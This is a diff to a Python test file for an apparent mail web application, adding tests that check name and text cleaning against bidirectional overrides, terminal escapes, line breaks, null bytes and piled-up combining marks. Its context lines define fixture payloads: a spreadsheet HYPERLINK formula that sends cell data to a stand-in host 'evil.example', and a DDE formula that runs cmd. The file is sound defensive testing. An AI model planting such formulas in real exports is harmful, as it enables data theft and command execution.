@@ -22,6 +22,7 @@ from ting.domains.mail import api as mail
 from ting.kit.db import Database
 from ting.kit.ids import new_id
 from ting.kit.problem import Refused
+from ting.kit.text import clean, name_of
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 WIDE = "＝1＋cmd|' /C calc'!A0"
@@ -164,6 +165,20 @@ async def test_a_name_cannot_begin_another_head_of_a_mail(db: Database, house: H
         assert mine["Bcc"] is None
         assert mine["To"].addresses[0].addr_spec == "a@x.example"
         await http.aclose()
+
+
+@pytest.mark.parametrize("turning", ["\u202e", "\u202b", "\u2066", "\u2067", "\u2068", "\x1b[7m", "\r\n", "\x00"])
+def test_a_name_turns_nothing_that_stands_after_it(turning: str) -> None:
+    assert name_of(f" Night {turning} shift\t") in ("Night shift", "Night [7m shift")
+    assert clean(f"a{turning}b", 10) in ("ab", "a[7mb", "a\nb")
+    with pytest.raises(Refused):
+        name_of(turning[0])
+
+
+def test_marks_are_not_piled_out_of_their_box() -> None:
+    assert clean("Z" + "\u0301\u0489" * 60 + "e\u0301", 200) == "Z" + "\u0301\u0489" * 5 + "e\u0301"
+    family = "\u2764\ufe0f\u200d\U0001f525" * 12
+    assert clean(family, 200) == family
 
 
 async def test_pages_that_the_house_writes_show_html_as_words(house: House, db: Database) -> None:
